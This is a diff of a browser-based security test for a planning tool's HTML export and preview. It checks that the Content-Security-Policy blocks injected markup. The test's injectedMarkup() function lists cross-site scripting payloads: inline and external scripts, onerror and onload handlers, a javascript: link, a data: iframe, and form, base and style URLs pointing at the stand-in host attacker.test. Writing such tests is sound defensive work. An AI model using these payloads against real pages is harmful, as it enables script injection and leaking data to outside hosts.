@@ -4,6 +4,8 @@
  * of client/src/preview/previewShell.ts with its real Content-Security-Policy and the real
  * media/preview.js). Every payload, if it ran, would set `window.__pwned`, open an alert or
  * fetch from attacker.test; the test listens for all three and for every request the page makes.
+ * Both pages also get markup injected behind the escaping (as if it had failed), which their
+ * Content-Security-Policy must stop: the preview's, and the one the exported file carries itself.
  * test/unit/render.test.ts checks the markup with regular expressions; this checks what a
  * browser's parser and script engine make of it.
  *
@@ -20,6 +22,7 @@ import { chromium, type Browser, type Page } from 'playwright-core';
 import { contentSecurityPolicy, previewShell } from '../../client/src/preview/previewShell';
 import { analyze } from '../../server/src/core';
 import { buildDocument } from '../../server/src/core/render';
+import { documentPolicy } from '../../server/src/core/render/html';
 import { PREVIEW_DOCUMENT_CSS } from '../../server/src/core/render/previewStyle';
 import { previewFragment } from '../../server/src/core/render/preview';
 import { ROOT, TODAY } from '../support/fixtures';
@@ -110,6 +113,21 @@ async function touchEverything(page: Page): Promise<void> {
   await page.waitForTimeout(300);
 }
 
+/**
+ * The Content-Security-Policy of an exported file as the page has it, the text of its first
+ * `<style>` element (the file's own) and the colour its headings got.
+ */
+async function documentPolicyOf(page: Page) {
+  return page.evaluate(() => {
+    const heading = document.querySelector('.drplan-document h2');
+    return {
+      content: document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? undefined,
+      stylesheet: document.querySelector('style')?.textContent ?? '',
+      accent: heading ? getComputedStyle(heading).color : undefined,
+    };
+  });
+}
+
 /** Markup and script the browser parsed from the page: elements, event-handler attributes, link targets. */
 async function parsedMarkup(page: Page) {
   return page.evaluate(() => {
@@ -126,6 +144,31 @@ async function parsedMarkup(page: Page) {
     };
   });
 }
+
+/**
+ * What an escaping bug would let through: markup that would run a script, load from
+ * attacker.test, send a form or move the base URL, each in a way a Content-Security-Policy
+ * governs.
+ */
+function injectedMarkup(): string {
+  return [
+    `<script>${run('inline-script')}</script>`,
+    `<script src="${ATTACKER}/external.js"></script>`,
+    `<script nonce="guessed">${run('wrong-nonce')}</script>`,
+    `<img src="${ATTACKER}/img.png" onerror="${run('img-onerror')}">`,
+    `<svg><rect width="10" height="10" onload="${run('svg-onload')}"/></svg>`,
+    `<a id="js-link" href="javascript:${run('javascript-url')}">klick</a>`,
+    `<iframe src="data:text/html,<script>parent.${run('data-frame')}</script>"></iframe>`,
+    `<style>body { background: url(${ATTACKER}/style.png) }</style>`,
+    `<link rel="stylesheet" href="${ATTACKER}/style.css">`,
+    `<div style="background: url(${ATTACKER}/inline-style.png)">inline style</div>`,
+    `<form action="${ATTACKER}/form"><button id="submit">senden</button></form>`,
+    `<base href="${ATTACKER}/base/">`,
+  ].join('\n');
+}
+
+/** The directives a policy must report a violation of when {@link injectedMarkup} is in the page. */
+const INJECTED_DIRECTIVES = ['script-src-elem', 'script-src-attr', 'img-src', 'style-src-elem', 'style-src-attr', 'frame-src', 'form-action', 'base-uri'];
 
 const DOCUMENT_TAGS = new Set(
   'html head meta title style body main div section h1 h2 h3 h4 p ul ol li dl dt dd table colgroup col thead tbody tr th td strong em a span aside nav br'.split(' '),
@@ -184,6 +227,54 @@ describe('a hostile plan in real Chromium', () => {
     }
     assert.equal(BIDI.test(parsed.text), false, 'no bidi control character reaches the page');
     assert.equal(/<(script|img|iframe|svg|base|form)\b/i.test(html), false, 'the file on disk has no markup of the author');
+    // Its own policy is in force and the file keeps to it: the stylesheet is allowed by its hash.
+    const policy = await documentPolicyOf(page);
+    assert.equal(policy.content, documentPolicy(policy.stylesheet));
+    assert.deepEqual(parsed.violations, [], 'the file keeps to its own policy');
+    assert.equal(policy.accent, 'rgb(31, 78, 140)', 'the stylesheet applies (the headings\' colour)');
+    await page.context().close();
+  });
+
+  it('the HTML export\'s own CSP: markup injected into the file (as if escaping failed) runs nothing and loads nothing', async (t) => {
+    const plan = join(scratch, 'plone-intranet.drplan.yaml');
+    const exported = join(scratch, 'plone-intranet.html');
+    writeFileSync(plan, readFileSync(join(ROOT, 'examples', 'plone-intranet.drplan.yaml')));
+    const render = spawnSync('node', [CLI, 'render', '--format', 'html', '--today', '2026-11-29', '-o', exported, plan], { encoding: 'utf8' });
+    assert.equal(render.status, 0, render.stderr);
+    // Test-only: the markup goes behind the escaping, into the body of the file as written.
+    const html = readFileSync(exported, 'utf8');
+    const opening = '<main class="drplan-document">';
+    assert.ok(html.includes(opening));
+    const injectedFile = join(scratch, 'injected.html');
+    writeFileSync(injectedFile, html.replace(opening, `${opening}\n<p>vorher</p>\n${injectedMarkup()}\n<p>nachher</p>`));
+
+    const { page, observed } = await watchedPage(browser);
+    const url = pathToFileURL(injectedFile).href;
+    await page.goto(url, { waitUntil: 'load' });
+    await touchEverything(page);
+    await page.locator('#submit').click({ timeout: 2_000, noWaitAfter: true }).catch(() => undefined);
+    await page.waitForTimeout(300);
+    const parsed = await parsedMarkup(page);
+
+    assert.equal(parsed.pwned, undefined, 'an injected script ran');
+    assert.deepEqual(observed.dialogs, [], 'an injected script opened a dialog');
+    assert.deepEqual(observed.escaped, [], 'an injected element reached the network');
+    assert.ok(parsed.scripts.length >= 3, 'the injected scripts are in the page (and did not run)');
+    assert.ok(observed.requests.some((request) => request.startsWith(ATTACKER)), 'Chromium started the injected requests (and the policy blocked them)');
+    const directives = new Set(parsed.violations.map((v) => v.directive));
+    for (const directive of INJECTED_DIRECTIVES) {
+      assert.ok(directives.has(directive), `a ${directive} violation was reported: ${JSON.stringify(parsed.violations)}`);
+    }
+    assert.ok(parsed.violations.some((v) => v.directive === 'script-src-elem' && v.blocked === 'inline'), 'the inline script was refused');
+    assert.ok(observed.console.some((line) => /Content Security Policy/.test(line)), 'Chromium says why in the console');
+    assert.equal(page.url().split('#')[0], url, 'no navigation (javascript: link, form, base)');
+    // The policy that held is the one the file carries, and the document still looks as it should.
+    const policy = await documentPolicyOf(page);
+    assert.equal(policy.content, documentPolicy(policy.stylesheet));
+    assert.match(policy.content ?? '', /^default-src 'none'; style-src 'sha256-[A-Za-z0-9+/]+=*'; form-action 'none'; base-uri 'none'$/);
+    assert.equal(policy.accent, 'rgb(31, 78, 140)', 'the file\'s own stylesheet still applies');
+    assert.ok(parsed.text.includes('vorher') && parsed.text.includes('nachher') && parsed.text.includes('Notfallplan Plone-Intranet'));
+    t.diagnostic(`${parsed.violations.length} CSP violations in the exported file (${[...directives].sort().join(', ')}); ${observed.escaped.length} requests got out`);
     await page.context().close();
   });
 
@@ -264,21 +355,7 @@ describe('a hostile plan in real Chromium', () => {
     });
 
     it('markup injected into the fragment (as if escaping failed) is stopped by the CSP; the page still works', async (t) => {
-      // What an escaping bug would let through, straight into #drplan-content.
-      const injected = [
-        `<script>${run('inline-script')}</script>`,
-        `<script src="${ATTACKER}/external.js"></script>`,
-        `<script nonce="guessed">${run('wrong-nonce')}</script>`,
-        `<img src="${ATTACKER}/img.png" onerror="${run('img-onerror')}">`,
-        `<svg><rect width="10" height="10" onload="${run('svg-onload')}"/></svg>`,
-        `<a id="js-link" href="javascript:${run('javascript-url')}">klick</a>`,
-        `<iframe src="data:text/html,<script>parent.${run('data-frame')}</script>"></iframe>`,
-        `<style>body { background: url(${ATTACKER}/style.png) }</style>`,
-        `<link rel="stylesheet" href="${ATTACKER}/style.css">`,
-        `<div style="background: url(${ATTACKER}/inline-style.png)">inline style</div>`,
-        `<form action="${ATTACKER}/form"><button id="submit">senden</button></form>`,
-        `<base href="${ATTACKER}/base/">`,
-      ].join('\n');
+      const injected = injectedMarkup();
       const { page, observed, messages } = await openPreview(`<main class="drplan-document"><p>vorher</p>${injected}<p>nachher</p></main>`);
       await touchEverything(page);
       await sendUpdate(page, `<main class="drplan-document"><p>Version 8</p>${injected.replace(/attacker\.test\//g, 'attacker.test/update-')}</main>`, 8);
@@ -294,7 +371,7 @@ describe('a hostile plan in real Chromium', () => {
       // Chromium starts them and then blocks them: the attempts are there, none got out.
       assert.ok(observed.requests.some((request) => request.startsWith(`${ATTACKER}/update-`)), 'the update was injected too');
       const directives = new Set(parsed.violations.map((v) => v.directive));
-      for (const directive of ['script-src-elem', 'script-src-attr', 'img-src', 'style-src-elem', 'style-src-attr', 'frame-src', 'form-action', 'base-uri']) {
+      for (const directive of INJECTED_DIRECTIVES) {
         assert.ok(directives.has(directive), `a ${directive} violation was reported: ${JSON.stringify(parsed.violations)}`);
       }
       assert.ok(
